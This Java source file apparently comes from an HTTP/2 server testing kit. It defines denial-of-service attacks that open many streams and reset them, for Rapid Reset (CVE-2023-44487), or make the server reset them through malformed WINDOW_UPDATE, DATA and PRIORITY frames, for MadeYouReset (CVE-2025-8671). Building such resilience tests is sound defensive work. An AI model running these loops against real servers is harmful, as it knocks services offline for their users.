package dev.weir.attack;

import static dev.weir.wire.testkit.Http2Wire.DATA;
import static dev.weir.wire.testkit.Http2Wire.PRIORITY;

import dev.weir.wire.testkit.Http2Wire;
import java.io.IOException;
import java.util.List;

/** Attacks by streams that end as soon as they begin: reset by the client, or by the server whom it makes do so. */
public final class Resets {
    static final int CANCEL = 8;
    /** More than any window may be, on top of what it begins with. */
    private static final int OVERFLOWING = Integer.MAX_VALUE;

    private Resets() {}

    /** All of them. */
    public static List<Http2Attack> all() {
        return List.of(
                rapid(),
                rapidWithContent(),
                zeroWindowUpdate(),
                overflowingWindowUpdate(),
                dataOnHalfClosed(),
                badPriorityLength(),
                selfDependency());
    }

    /** Opens streams and resets them at once. */
    public static Http2Attack rapid() {
        return Http2Attack.begun("rapid reset, CVE-2023-44487", (wire, _, size) -> {
            for (int stream = 1; stream < 2 * size; stream += 2) {
                wire.get(stream, "/delay/60000").reset(stream, CANCEL);
            }
        });
    }

    /** The same with requests whose content is under way. */
    public static Http2Attack rapidWithContent() {
        return Http2Attack.begun("rapid reset with content, CVE-2023-44487", (wire, _, size) -> {
            for (int stream = 1; stream < 2 * size; stream += 2) {
                wire.request(stream, false, "POST", "/echo")
                        .data(stream, false, "some")
                        .reset(stream, CANCEL);
            }
        });
    }

    /** What makes the server reset a stream. */
    @FunctionalInterface
    private interface Provocation {
        void on(Http2Wire wire, int stream) throws IOException;
    }

    private static Http2Attack provoked(String how, Provocation provocation) {
        return Http2Attack.begun("MadeYouReset by " + how + ", CVE-2025-8671", (wire, _, size) -> {
            for (int stream = 1; stream < 2 * size; stream += 2) {
                wire.get(stream, "/delay/60000");
                provocation.on(wire, stream);
            }
        });
    }

    /** RFC 9113 section 6.9: an increment of 0 is a stream error. */
    public static Http2Attack zeroWindowUpdate() {
        return provoked("zero WINDOW_UPDATE", (wire, stream) -> wire.window(stream, 0));
    }

    /** Section 6.9.1: a window over 2^31-1 is a stream error. */
    public static Http2Attack overflowingWindowUpdate() {
        return provoked("overflowing WINDOW_UPDATE", (wire, stream) -> wire.window(stream, OVERFLOWING));
    }

    /** Section 5.1: content after the end of a stream is a stream error. */
    public static Http2Attack dataOnHalfClosed() {
        return provoked("DATA on half-closed", (wire, stream) -> wire.frame(DATA, 0, stream, (byte) 'x'));
    }

    /** Section 6.3: a PRIORITY frame of another length than 5 is a stream error. */
    public static Http2Attack badPriorityLength() {
        return provoked("bad PRIORITY length", (wire, stream) -> wire.frame(PRIORITY, 0, stream, new byte[4]));
    }

    /** RFC 7540 section 5.3.1: a stream cannot depend on itself. */
    public static Http2Attack selfDependency() {
        return provoked("self-dependency", (wire, stream) -> {
            byte[] priority = new byte[5];
            System.arraycopy(Http2Wire.int32(stream), 0, priority, 0, 4);
            wire.frame(PRIORITY, 0, stream, priority);
        });
    }
}
